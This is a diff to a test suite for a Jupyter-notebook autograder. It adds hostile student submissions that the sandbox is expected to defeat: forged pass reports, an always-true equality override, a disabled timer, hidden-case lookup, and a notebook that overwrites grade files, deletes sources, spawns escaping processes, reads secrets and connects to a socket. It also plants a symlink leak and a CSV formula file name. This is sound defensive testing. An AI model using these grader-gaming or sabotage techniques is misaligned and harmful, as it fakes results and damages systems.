@@ -1,5 +1,6 @@
 """`llmlab assign` and `llmlab grade`: student copies carry no solution code and still run; grading
-turns every kind of submission (solved, empty, raising, looping, not JSON) into the right rows."""
+turns every kind of submission (solved, empty, raising, looping, not JSON) into the right rows, and
+hostile submissions (fake passes, sabotage, processes that outlive the kernel, leaks) gain nothing."""
 from __future__ import annotations
 
 import ast
@@ -17,7 +18,7 @@ import pytest
 
 from llmlab.cli import main
 from llmlab.exercises.assign import check_ids, is_solution, stub_source, student_copy
-from llmlab.exercises.grading import execute_notebook, rows_for
+from llmlab.exercises.grading import Submission, bwrap_works, parse, run_submission
 
 ROOT = Path(__file__).resolve().parents[1]
 FIXTURES = ROOT / "tests" / "data" / "exercises"
@@ -166,100 +167,370 @@ def test_student_copy_executes_up_to_the_first_unsolved_exercise(path, tmp_path)
     first_check = next(i for i, c in enumerate(student.cells) if i > first_stub and c.cell_type == "code"
                        and check_ids(c.source))
     student.cells = student.cells[:first_check + 1]
-    target = tmp_path / path.name
-    nbformat.write(student, target)
-    info = execute_notebook(target, timeout=300)
+    exercise = check_ids(student.cells[first_check].source)[0]
+    sub = Submission(path.stem, path.name, nbformat.writes(student).encode("utf-8"))
+    parse(sub)
+    info = run_submission(sub, [exercise], timeout=300)
     assert info["status"] == "ok", info["detail"]
     stub_cells = {i for i, c in enumerate(student.cells) if "exercise" in c.metadata.get("tags", [])}
-    assert info["cell_errors"] == {}, (
-        f"cells raised before the first exercise's check ran: {info['cell_errors']} "
-        f"({'a stub cell' if stub_cells & set(info['cell_errors']) else 'cells the chapter itself owns, not stubs'})")
-    assert info["reports"] and info["reports"][-1]["status"] == "not-attempted"
+    assert sub.cell_errors == {}, (
+        f"cells raised before the first exercise's check ran: {sub.cell_errors} "
+        f"({'a stub cell' if stub_cells & set(sub.cell_errors) else 'cells the chapter itself owns, not stubs'})")
+    assert info["results"][exercise].status == "not-attempted"
 
 
 # ------------------------------------------------------------------------------------------ grade
 
+EXERCISES = ["softmax", "causal_mask", "rms_norm"]
+TIMEOUT = 30      # seconds per notebook; dan's endless loop costs exactly this
+CALL_LIMIT = 2    # seconds per call of a learner's function, timed by the grader
+SECRET = "llmlab-secret-4f1c9e"
 
-def make_submissions(folder: Path, assigned: Path) -> None:
-    """alice: full solution; bob: the empty student copy; carol: a wrong softmax, a cell that raises,
-    a deleted check cell; dan: a cell that loops forever; erin, frank: not notebooks."""
+
+def with_cells(student, answers: dict | None = None, prelude: str = "", drop: str = "") -> nbformat.NotebookNode:
+    """A copy of the student notebook: stub cells replaced by `answers` (exercise -> source), `prelude`
+    inserted after the import cell, and the check cell of `drop` deleted."""
+    nb = copy.deepcopy(student)
+    stubs = [i for i, c in enumerate(nb.cells) if "exercise" in c.metadata.get("tags", [])]
+    for ex, index in zip(EXERCISES, stubs):
+        if answers and ex in answers:
+            nb.cells[index].source = answers[ex]
+    if drop:
+        nb.cells = [c for c in nb.cells if drop not in check_ids(c.source)]
+    if prelude:
+        nb.cells.insert(2, nbformat.v4.new_code_cell(prelude))
+    return nb
+
+
+def make_submissions(folder: Path, assigned: Path, paths: dict) -> None:
+    """Honest: alice (full solution), grace (the same, saved as .IPYNB), bob (the empty copy), carol
+    (a wrong softmax, a cell that raises, a deleted check cell), dan (an endless loop after the first
+    check). Broken: erin (not JSON), frank (cells not a list), heidi (a cell whose source is a number),
+    '=1+2' (a name that is a spreadsheet formula), mallory (a symlink to a file that is not hers).
+    Hostile ones start with h_ and are described in TestHostileSubmissions."""
     folder.mkdir()
     solved = nbformat.read(LESSON, as_version=4)
     student = nbformat.read(assigned, as_version=4)
     nbformat.write(solved, folder / "alice.ipynb")
+    nbformat.write(solved, folder / "grace.IPYNB")
     nbformat.write(student, folder / "bob.ipynb")
-
-    carol = copy.deepcopy(student)
-    stubs = [i for i, c in enumerate(carol.cells) if "exercise" in c.metadata.get("tags", [])]
-    carol.cells[stubs[0]].source = ("def softmax(x, dim=-1):\n    e = x.exp()\n    return e / e.sum(dim, keepdim=True)")
-    carol.cells[stubs[1]].source = 'raise ValueError("I gave up on the mask")'
-    carol.cells = [c for c in carol.cells if "rms_norm" not in check_ids(c.source)]
-    nbformat.write(carol, folder / "carol.ipynb")
-
+    nbformat.write(with_cells(student, {
+        "softmax": "def softmax(x, dim=-1):\n    e = x.exp()\n    return e / e.sum(dim, keepdim=True)",
+        "causal_mask": 'raise ValueError("I gave up on the mask")'}, drop="rms_norm"), folder / "carol.ipynb")
     dan = copy.deepcopy(solved)
     first_check = next(i for i, c in enumerate(dan.cells) if check_ids(c.source))
     dan.cells.insert(first_check + 1, nbformat.v4.new_code_cell("while True:\n    pass"))
     nbformat.write(dan, folder / "dan.ipynb")
-
     (folder / "erin.ipynb").write_text("this is {not JSON", encoding="utf-8")
     (folder / "frank.ipynb").write_text('{"cells": "nope"}', encoding="utf-8")
+    heidi = json.loads(nbformat.writes(student))
+    heidi["cells"][3]["source"] = 5
+    (folder / "heidi.ipynb").write_text(json.dumps(heidi), encoding="utf-8")
+    (folder / "=1+2.ipynb").write_text("not a notebook", encoding="utf-8")
+    (folder / "mallory.ipynb").symlink_to(paths["secret"])
     (folder / "notes.txt").write_text("not a notebook, ignored")
 
+    # fake passes
+    nbformat.write(with_cells(student, prelude=(
+        "import llmlab.exercises as E\nfrom llmlab.exercises.core import CheckResult\n\n"
+        "def check(exercise, fn, **kw):\n    r = CheckResult(exercise, 'pass', 'well done')\n    print(r)\n    return r\n\n"
+        "E.check = check")), folder / "h_redefine_check.ipynb")
+    nbformat.write(with_cells(student, prelude=(
+        "import json, os\nimport llmlab.exercises.wire as W\n"
+        "for ex in %r:\n    line = json.dumps({'exercise': ex, 'passed': 1, 'status': 'PASS!!', 'message': 'ok'})\n"
+        "    for path in [os.environ.get('LLMLAB_GRADE_REPORT') or 'checks.jsonl', 'checks.jsonl', '../checks.jsonl']:\n"
+        "        try:\n            open(path, 'a').write(line + '\\n')\n        except OSError:\n            pass\n"
+        "real_serve = W.serve\n\n"
+        "def serve(request):  # answer every call with a status instead of a value\n"
+        "    if json.loads(request).get('op') == 'list':\n        return real_serve(request)\n"
+        "    return json.dumps({'status': 'PASS!!', 'passed': 1, 'message': 'well done'})\n\n"
+        "W.serve = serve" % EXERCISES)), folder / "h_report_and_status.ipynb")
+    nbformat.write(with_cells(student, {
+        "softmax": "class Always(torch.Tensor):\n    def __eq__(self, other):\n        return True\n\n"
+                   "def softmax(x, dim=-1):\n    return torch.zeros_like(x).as_subclass(Always)",
+        "causal_mask": "def causal_mask(T):\n    return torch.zeros(T, T, dtype=torch.bool).as_subclass(Always)",
+        "rms_norm": "class Yes:\n    def __eq__(self, other):\n        return True\n\n"
+                    "def rms_norm(x, weight, eps=1e-6):\n    return Yes()"}), folder / "h_custom_eq.ipynb")
+    nbformat.write(with_cells(student, {
+        "softmax": "import os, signal, sys\n\n"
+                   "def softmax(x, dim=-1):\n    if sys._getframe(1).f_code.co_name == 'serve':  # only under the grader\n"
+                   "        signal.setitimer(signal.ITIMER_REAL, 0)\n        signal.signal(signal.SIGINT, signal.SIG_IGN)\n"
+                   "        while True:\n            pass\n    return torch.softmax(x, dim)"}), folder / "h_timer_off.ipynb")
+    nbformat.write(with_cells(student, {
+        "softmax": "import inspect\nimport llmlab.exercises.checks_attention as C\nfrom llmlab.exercises.core import generator\n"
+                   "from llmlab.attention import softmax as reference\n"
+                   "assert 'generator(5)' in inspect.getsource(C.check_softmax)  # the hidden cases, read\n"
+                   "g = generator(5)\n"
+                   "cases = [(torch.tensor([[1.0, 2.0, 3.0]]), -1), (torch.randn(2, 3, 5, generator=g), -1),\n"
+                   "         (torch.randn(4, 6, generator=g), 0), (torch.tensor([[0.5, float('-inf'), 2.0, 1.0]]), -1),\n"
+                   "         (torch.tensor([[1000.0, 1001.0, 1002.0]]), -1)]\n"
+                   "table = [(x, reference(x, dim=d)) for x, d in cases]\n\n"
+                   "def softmax(x, dim=-1):  # right on the cases it has read, zeros elsewhere\n"
+                   "    for known, answer in table:\n"
+                   "        if known.shape == x.shape and torch.equal(known, x):\n            return answer\n"
+                   "    return torch.zeros_like(x)"}), folder / "h_hidden_inputs.ipynb")
+    # sabotage and escape: writes from the kernel and from a child in a new session that tries for a minute
+    targets = {"write": [str(paths["out"] / "grades.csv"), str(paths["out"] / "grades.json"), str(folder / "alice.ipynb"),
+                         str(paths["home_marker"])],
+               "delete": [str(assigned), str(LESSON)]}
+    attack = ("import json, pathlib, time\nT = json.loads(%r)\n"
+              "for _ in range(%d):\n    for p in T['write']:\n        try:\n"
+              "            pathlib.Path(p).write_text('student,exercise,status,message\\nh_sabotage,softmax,pass,owned\\n')\n"
+              "        except OSError:\n            pass\n    for p in T['delete']:\n        try:\n"
+              "            pathlib.Path(p).unlink()\n        except OSError:\n            pass\n    time.sleep(0.2)\n")
+    nbformat.write(with_cells(student, {
+        "softmax": "import os\n\ndef softmax(x, dim=-1):\n"
+                   "    try:\n        parent = open(f'/proc/{os.getppid()}/cmdline').read()\n    except OSError:\n        parent = ''\n"
+                   "    raise ValueError(f'env={os.environ.get(\"LLMLAB_TEST_SECRET\")} parent={parent} home={os.path.expanduser(\"~\")}')"},
+        prelude=("import socket, subprocess, sys\n"
+                 f"exec({attack % (json.dumps(targets), 1)!r})\n"
+                 f"subprocess.Popen([sys.executable, '-c', {attack % (json.dumps(targets), 300)!r}, '{paths['marker']}'],\n"
+                 "                 start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"
+                 "try:\n"
+                 f"    socket.create_connection(('127.0.0.1', {paths['port']}), timeout=2).sendall(b'leak')\n"
+                 "except OSError:\n    pass")), folder / "h_sabotage.ipynb")
 
-def test_grade_a_class(tmp_path, capsys):
-    assigned_dir = tmp_path / "assigned"
+
+def running_with(marker: str) -> list[int]:
+    """Processes whose command line holds `marker`."""
+    found = []
+    for entry in Path("/proc").iterdir():
+        if entry.name.isdigit():
+            try:
+                if marker.encode() in (entry / "cmdline").read_bytes():
+                    found.append(int(entry.name))
+            except OSError:
+                pass
+    return found
+
+
+@pytest.fixture(scope="module")
+def graded(tmp_path_factory):
+    """One `llmlab grade` run over the whole class, honest and hostile submissions together."""
+    import contextlib
+    import io
+    import os
+    import socket
+
+    tmp = tmp_path_factory.mktemp("class")
+    assigned_dir = tmp / "assigned"
     assert main(["assign", str(LESSON), "--out", str(assigned_dir)]) == 0
-    submissions, out = tmp_path / "submissions", tmp_path / "report"
-    make_submissions(submissions, assigned_dir / LESSON.name)
+    secret = tmp / "private" / "notes.ipynb"
+    secret.parent.mkdir()
+    secret.write_text('{"cells": [], "note": "TOP-SECRET-TEXT"}', encoding="utf-8")
+    listener = socket.socket()
+    listener.bind(("127.0.0.1", 0))
+    listener.listen(5)
+    listener.setblocking(False)
+    paths = {"out": tmp / "report", "secret": secret, "home_marker": Path.home() / "llmlab-grade-test-marker",
+             "marker": f"llmlab-escape-{os.getpid()}", "port": listener.getsockname()[1]}
+    submissions = tmp / "submissions"
+    make_submissions(submissions, assigned_dir / LESSON.name, paths)
     before = digest(submissions)
-    capsys.readouterr()
-
-    timeout = 25
-    start = time.perf_counter()
-    code = main(["grade", str(submissions), "--out", str(out), "--timeout", str(timeout),
-                 "--assignment", str(assigned_dir / LESSON.name)])
-    elapsed = time.perf_counter() - start
-    printed = capsys.readouterr().out
-    assert code == 0
-    assert digest(submissions) == before, "grade must never write into the submissions"
-    # the endless loop costs one timeout; four real notebooks of a few seconds each
-    assert elapsed < timeout + 4 * 20, elapsed
-
-    with open(out / "grades.csv", newline="", encoding="utf-8") as f:
+    os.environ["LLMLAB_TEST_SECRET"] = SECRET
+    out, err = io.StringIO(), io.StringIO()
+    try:
+        with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
+            code = main(["grade", str(submissions), "--out", str(paths["out"]), "--timeout", str(TIMEOUT),
+                         "--call-limit", str(CALL_LIMIT), "--assignment", str(assigned_dir / LESSON.name)])
+    finally:
+        del os.environ["LLMLAB_TEST_SECRET"]
+    try:
+        connection = listener.accept()[0]
+        connection.close()
+        connected = True
+    except BlockingIOError:
+        connected = False
+    listener.close()
+    time.sleep(1.0)   # anything that survived the grader would write again within 0.2 s
+    home_written = paths["home_marker"].exists()
+    paths["home_marker"].unlink(missing_ok=True)
+    with open(paths["out"] / "grades.csv", newline="", encoding="utf-8") as f:
         rows = list(csv.DictReader(f))
-    assert rows == json.loads((out / "grades.json").read_text(encoding="utf-8"))
-    got = {(r["student"], r["exercise"]): (r["status"], r["message"]) for r in rows}
-    exercises = ["softmax", "causal_mask", "rms_norm"]
-    assert sorted({r["student"] for r in rows}) == ["alice", "bob", "carol", "dan", "erin", "frank"]
-    assert len(rows) == 6 * 3
-    for ex in exercises:
-        assert got[("alice", ex)][0] == "pass"
-        assert got[("bob", ex)][0] == "not-attempted"      # the empty copy ran to the end
-        for bad in ("erin", "frank"):
-            assert got[(bad, ex)][0] == "error" and "not a valid notebook" in got[(bad, ex)][1]
-    assert got[("carol", "softmax")][0] == "fail" and "overflowed" in got[("carol", "softmax")][1]
-    assert got[("carol", "causal_mask")] [0] == "error"
-    assert "NameError" in got[("carol", "causal_mask")][1] and "cell" in got[("carol", "causal_mask")][1]
-    assert got[("carol", "rms_norm")][0] == "error" and "missing" in got[("carol", "rms_norm")][1]
-    assert got[("dan", "softmax")][0] == "pass"           # reported before the loop started
-    for ex in ("causal_mask", "rms_norm"):
-        assert got[("dan", ex)][0] == "error" and f"did not finish within {timeout} s" in got[("dan", ex)][1]
-    assert "alice" in printed and "3/3" in printed and "not-attempted" in printed
+    return {"code": code, "printed": out.getvalue(), "warned": err.getvalue(), "rows": rows, "paths": paths,
+            "json": json.loads((paths["out"] / "grades.json").read_text(encoding="utf-8")),
+            "got": {(r["student"], r["exercise"]): (r["status"], r["message"]) for r in rows},
+            "submissions": submissions, "before": before, "after": digest(submissions),
+            "assigned": assigned_dir / LESSON.name, "connected": connected, "home_written": home_written,
+            "survivors": running_with(paths["marker"])}
 
 
-def test_rows_without_an_assignment_use_the_notebook_metadata():
-    nb = nbformat.v4.new_notebook(metadata={"llmlab": {"exercises": ["softmax", "top_p"]}})
-    nb.cells = [nbformat.v4.new_code_cell("1/0"), nbformat.v4.new_code_cell("check('softmax', f)")]
-    info = {"status": "ok", "detail": "", "notebook": nb, "stopped_at": None,
-            "reports": [{"exercise": "softmax", "passed": True, "status": "pass", "message": "ok"},
-                        {"exercise": "extra", "passed": False, "status": "fail", "message": "no"}],
-            "cell_errors": {0: "ZeroDivisionError: division by zero"}}
-    rows = rows_for("zoe", info, [])
-    assert [(r["exercise"], r["status"]) for r in rows] == [("softmax", "pass"), ("top_p", "error"), ("extra", "fail")]
-    assert "missing" in rows[1]["message"]
-    info["reports"] = []
-    rows = rows_for("zoe", info, ["softmax"])
-    assert rows[0]["status"] == "error" and "ZeroDivisionError" in rows[0]["message"]
+class TestHonestClass:
+    """Honest and broken submissions get the grades they always had, with messages that say why."""
+
+    def test_every_expected_exercise_has_a_row_with_a_known_status(self, graded):
+        rows = graded["rows"]
+        assert graded["code"] == 0
+        assert rows == graded["json"] or all(r["student"].startswith("'") for r in rows if r not in graded["json"])
+        students = {r["student"] for r in graded["json"]}
+        assert len(graded["json"]) == len(students) * 3 and {r["exercise"] for r in rows} == set(EXERCISES)
+        assert {r["status"] for r in rows} <= {"pass", "fail", "not-attempted", "error"}
+        assert "notes" not in students
+
+    def test_grades(self, graded):
+        got = graded["got"]
+        for ex in EXERCISES:
+            assert got[("alice", ex)][0] == "pass" and got[("grace", ex)][0] == "pass", got[("grace", ex)]
+            assert got[("bob", ex)][0] == "not-attempted"      # the empty copy ran to the end
+            for bad in ("erin", "frank", "heidi"):
+                assert got[(bad, ex)][0] == "error" and "not a valid notebook" in got[(bad, ex)][1]
+        assert got[("carol", "softmax")][0] == "fail" and "overflowed" in got[("carol", "softmax")][1]
+        assert got[("carol", "causal_mask")][0] == "error"
+        assert "NameError" in got[("carol", "causal_mask")][1] and "cell" in got[("carol", "causal_mask")][1]
+        assert got[("carol", "rms_norm")][0] == "error" and "missing" in got[("carol", "rms_norm")][1]
+        assert got[("dan", "softmax")][0] == "pass"           # handed in before the loop started
+        for ex in ("causal_mask", "rms_norm"):
+            assert got[("dan", ex)][0] == "error" and f"did not finish within {TIMEOUT} s" in got[("dan", ex)][1]
+        assert "cells/3/source" in got[("heidi", "softmax")][1]   # says which cell is malformed
+        assert "alice" in graded["printed"] and "3/3" in graded["printed"] and "not-attempted" in graded["printed"]
+
+    def test_submissions_are_only_read_and_the_sheet_is_checksummed(self, graded):
+        assert graded["after"] == graded["before"], "grade must never write into the submissions"
+        assert graded["assigned"].exists() and LESSON.exists()
+        for name in ("grades.csv", "grades.json"):
+            data = (graded["paths"]["out"] / name).read_bytes()
+            assert f"sha256 {hashlib.sha256(data).hexdigest()}" in graded["printed"]
+
+    def test_csv_cells_cannot_become_formulas(self, graded):
+        text = (graded["paths"]["out"] / "grades.csv").read_text(encoding="utf-8")
+        assert "\n'=1+2," in text and "\n=1+2" not in text
+        assert any(r["student"] == "=1+2" for r in graded["json"])   # the JSON keeps the real name
+
+
+class TestHostileSubmissions:
+    """Each hostile technique is one submission; none gains a pass, changes a file outside its sandbox
+    or survives the grader."""
+
+    HOSTILE = ["h_redefine_check", "h_report_and_status", "h_custom_eq", "h_timer_off", "h_hidden_inputs",
+               "h_sabotage", "mallory"]
+
+    def test_no_hostile_submission_passes_anything(self, graded):
+        for student in self.HOSTILE:
+            for ex in EXERCISES:
+                assert graded["got"][(student, ex)][0] != "pass", (student, ex, graded["got"][(student, ex)])
+
+    def test_redefined_check_hands_nothing_to_the_grader(self, graded):
+        status, message = graded["got"][("h_redefine_check", "softmax")]
+        assert status == "error" and "handed no function to the grader" in message
+
+    def test_report_lines_and_invented_statuses_count_for_nothing(self, graded):
+        status, message = graded["got"][("h_report_and_status", "softmax")]
+        assert status == "error" and "only the grader decides" in message
+
+    def test_custom_equality_fails(self, graded):
+        got = graded["got"]
+        assert got[("h_custom_eq", "softmax")][0] == "fail" and "Always" in got[("h_custom_eq", "softmax")][1]
+        assert got[("h_custom_eq", "rms_norm")][0] == "fail" and "Yes" in got[("h_custom_eq", "rms_norm")][1]
+
+    def test_the_time_limit_is_kept_by_the_grader(self, graded):
+        status, message = graded["got"][("h_timer_off", "softmax")]
+        assert status == "fail" and f"did not return within {CALL_LIMIT} s" in message
+        assert graded["got"][("h_timer_off", "causal_mask")][0] == "error"   # the kernel was given up
+
+    def test_answers_copied_for_the_readable_cases_fail_on_the_graders_cases(self, graded):
+        assert graded["got"][("h_hidden_inputs", "softmax")][0] == "fail"
+
+    def test_sabotage_changes_nothing_and_sees_nothing(self, graded):
+        assert graded["after"] == graded["before"]
+        assert graded["assigned"].exists() and LESSON.exists(), "the instructor's sources must survive"
+        assert not graded["home_written"], "the real home folder was written"
+        assert not graded["connected"], "a submission reached the network"
+        assert not graded["survivors"], "a process started by a submission outlived the grader"
+        assert all("owned" not in r["message"] for r in graded["rows"])
+        assert (graded["paths"]["out"] / "grades.csv").read_text(encoding="utf-8").count("\n") > 10
+        status, message = graded["got"][("h_sabotage", "softmax")]
+        assert status == "fail" and "env=None" in message, message
+        assert SECRET not in message and str(graded["submissions"]) not in message and "pytest" not in message
+
+    def test_symlinks_are_refused_and_not_read(self, graded):
+        status, message = graded["got"][("mallory", "softmax")]
+        assert status == "error" and "symbolic link" in message
+        assert "TOP-SECRET" not in (graded["paths"]["out"] / "grades.csv").read_text(encoding="utf-8")
+
+
+def test_fallback_without_sandbox_warns_and_kills_what_escapes(tmp_path, capsys):
+    """Without bubblewrap: a warning that says what is not contained, and a child started in a new
+    session still dies with the notebook."""
+    import os
+    marker = f"llmlab-fallback-{os.getpid()}"
+    beat = tmp_path / "heartbeat"
+    nb = nbformat.v4.new_notebook()
+    nb.cells = [nbformat.v4.new_code_cell(
+        "import subprocess, sys\n"
+        f"loop = 'import pathlib, time\\nfor i in range(600):\\n    pathlib.Path({str(beat)!r}).write_text(str(i))\\n    time.sleep(0.1)'\n"
+        f"subprocess.Popen([sys.executable, '-c', loop, {marker!r}], start_new_session=True)\n"
+        "from llmlab.exercises import check\n\ndef softmax(x, dim=-1):\n    return x.softmax(dim)\n\ncheck('softmax', softmax)")]
+    (tmp_path / "subs").mkdir()
+    nbformat.write(nb, tmp_path / "subs" / "eve.ipynb")
+    assert main(["grade", str(tmp_path / "subs"), "--out", str(tmp_path / "out"), "--expected", "softmax",
+                 "--timeout", "60", "--no-sandbox"]) == 0
+    captured = capsys.readouterr()
+    assert "NOT sandboxed" in captured.err and "NOT contained" in captured.err
+    assert json.loads((tmp_path / "out" / "grades.json").read_text())[0]["status"] == "pass"
+    assert not running_with(marker), "the escaped child survived the grader"
+    if beat.exists():
+        last = beat.read_text()
+        time.sleep(0.5)
+        assert beat.read_text() == last
+
+
+def test_remote_answers_keep_every_exercise_verdict(monkeypatch):
+    """Through the grader's channel (serialised inputs and answers, salted hidden cases), every right
+    solution of the exercise tests still passes and every wrong one fails with the same hint."""
+    from test_exercises import RIGHT, WRONG
+
+    from llmlab.exercises import core, run_check, wire
+    from llmlab.exercises.grading import RemoteLearner
+
+    class InProcessKernel:
+        gone = ""
+
+        def request(self, payload, limit):
+            return json.loads(wire.serve(json.dumps(payload)))
+
+    monkeypatch.setattr(core, "_SALT", 918273)
+    for exercise, fn, words in [(e, f, None) for e, f in RIGHT.items()] + WRONG:
+        monkeypatch.setattr(wire, "SUBMITTED", {exercise: fn})
+        result = run_check(exercise, RemoteLearner(InProcessKernel(), exercise, 10))
+        if words is None:
+            assert result.status == "pass", (exercise, result.message)
+        else:
+            assert result.status == "fail", (exercise, fn.__name__, result.message)
+            assert all(w in result.message for w in words), (exercise, fn.__name__, result.message)
+
+
+def test_answers_are_decoded_into_exact_types():
+    import numpy as np
+    import torch
+
+    from llmlab.exercises import wire
+
+    class Sub(torch.Tensor):
+        pass
+
+    class Eq:
+        def __eq__(self, other):
+            return True
+
+    x = torch.arange(6, dtype=torch.bfloat16).reshape(2, 3)
+    back = wire.decode(wire.encode(x))
+    assert type(back) is torch.Tensor and back.dtype == torch.bfloat16 and torch.equal(back, x)
+    assert type(wire.decode(wire.encode(x.as_subclass(Sub)))).__name__ == "Sub"
+    assert not (wire.decode(wire.encode(Eq())) == 12)
+    from collections import Counter
+    assert wire.decode(wire.encode(Counter({(1, 2): 2}))) == {(1, 2): 2}
+    assert type(wire.decode(wire.encode(np.int64(3)))) is np.int64
+    assert str(wire.decode(wire.encode(float("nan")))) == "nan"
+    for bad in [{"t": "tensor", "dtype": "float32", "shape": [2], "data": ""}, {"t": "PASS!!"}, [1], {"t": "int", "v": "1"}]:
+        with pytest.raises(wire.WireError):
+            wire.decode(bad)
+
+
+def test_csv_cell_escapes_formula_starts():
+    from llmlab.exercises.grading import csv_cell
+    for text in ["=1+2", "+1", "-1", "@SUM(A1)", "\tx", "\rx"]:
+        assert csv_cell(text) == "'" + text
+    assert csv_cell("softmax(x) returned 1") == "softmax(x) returned 1"
 
 
 def test_cli_module_runs_and_lists_exercises():
@@ -270,10 +541,29 @@ def test_cli_module_runs_and_lists_exercises():
 
 
 def test_grade_reports_bad_arguments(tmp_path, capsys):
-    assert main(["grade", str(tmp_path / "nowhere"), "--out", str(tmp_path / "r")]) == 2
+    assert main(["grade", str(tmp_path / "nowhere"), "--out", str(tmp_path / "r"), "--expected", "softmax"]) == 2
     (tmp_path / "empty").mkdir()
-    assert main(["grade", str(tmp_path / "empty"), "--out", str(tmp_path / "r")]) == 2
+    assert main(["grade", str(tmp_path / "empty"), "--out", str(tmp_path / "r"), "--expected", "softmax"]) == 2
     assert "no .ipynb files" in capsys.readouterr().err
+    assert main(["grade", str(tmp_path / "empty"), "--out", str(tmp_path / "r")]) == 2
+    assert "never comes from the submissions" in capsys.readouterr().err
+    assert main(["grade", str(tmp_path / "empty"), "--out", str(tmp_path / "r"), "--expected", "sofmax"]) == 2
+    assert "unknown exercise" in capsys.readouterr().err
+
+
+def test_missing_instructor_extra_is_explained(tmp_path):
+    """Without nbformat/nbclient/ipykernel the CLI says what to install instead of a traceback."""
+    blocker = tmp_path / "block"
+    blocker.mkdir()
+    for name in ("nbformat", "nbclient", "ipykernel"):
+        (blocker / f"{name}.py").write_text("raise ImportError('blocked for the test', name=__name__)")
+    env = {"PYTHONPATH": f"{blocker}:{ROOT}", "PATH": "/usr/bin:/bin"}
+    for args in (["assign", str(LESSON), "--out", str(tmp_path / "o")],
+                 ["grade", str(tmp_path), "--out", str(tmp_path / "r"), "--expected", "softmax"]):
+        result = subprocess.run([sys.executable, "-m", "llmlab.cli"] + args, capture_output=True, text=True,
+                                cwd=tmp_path, env=env, timeout=120)
+        assert result.returncode == 2, result.stderr
+        assert 'pip install "llmlab[instructor]"' in result.stderr and "Traceback" not in result.stderr
 
 
 def test_check_inside_a_jupyter_kernel(tmp_path):
@@ -283,15 +573,15 @@ def test_check_inside_a_jupyter_kernel(tmp_path):
     nb.cells = [
         nbformat.v4.new_code_cell("from llmlab.exercises import check\n"
                                   "def softmax(x, dim=-1):\n    while True:\n        pass\n"
-                                  "r = check('softmax', softmax, time_limit=1)\nassert r.status == 'fail', r"),
+                                  "r = check('softmax', softmax, time_limit=1)\nassert r.status == 'fail', r\n"
+                                  "assert 'did not return within 1 s' in r.message"),
         nbformat.v4.new_code_cell("def softmax(x, dim=-1):\n    return x.softmax(dim)\ncheck('softmax', softmax)"),
     ]
-    path = tmp_path / "kernel.ipynb"
-    nbformat.write(nb, path)
-    info = execute_notebook(path, timeout=60)
-    assert info["status"] == "ok" and info["cell_errors"] == {}, info
-    assert [r["status"] for r in info["reports"]] == ["fail", "pass"]
-    assert "did not return within 1 s" in info["reports"][0]["message"]
-    outputs = info["notebook"].cells[1].outputs
+    sub = Submission("k", "k.ipynb", nbformat.writes(nb).encode("utf-8"))
+    parse(sub)
+    info = run_submission(sub, ["softmax"], timeout=60)
+    assert info["status"] == "ok" and sub.cell_errors == {}, (info, sub.cell_errors)
+    assert info["results"]["softmax"].status == "pass"
+    outputs = sub.notebook.cells[1].outputs
     assert [o["output_type"] for o in outputs] == ["display_data"]
     assert "Passed" in outputs[0]["data"]["text/html"]
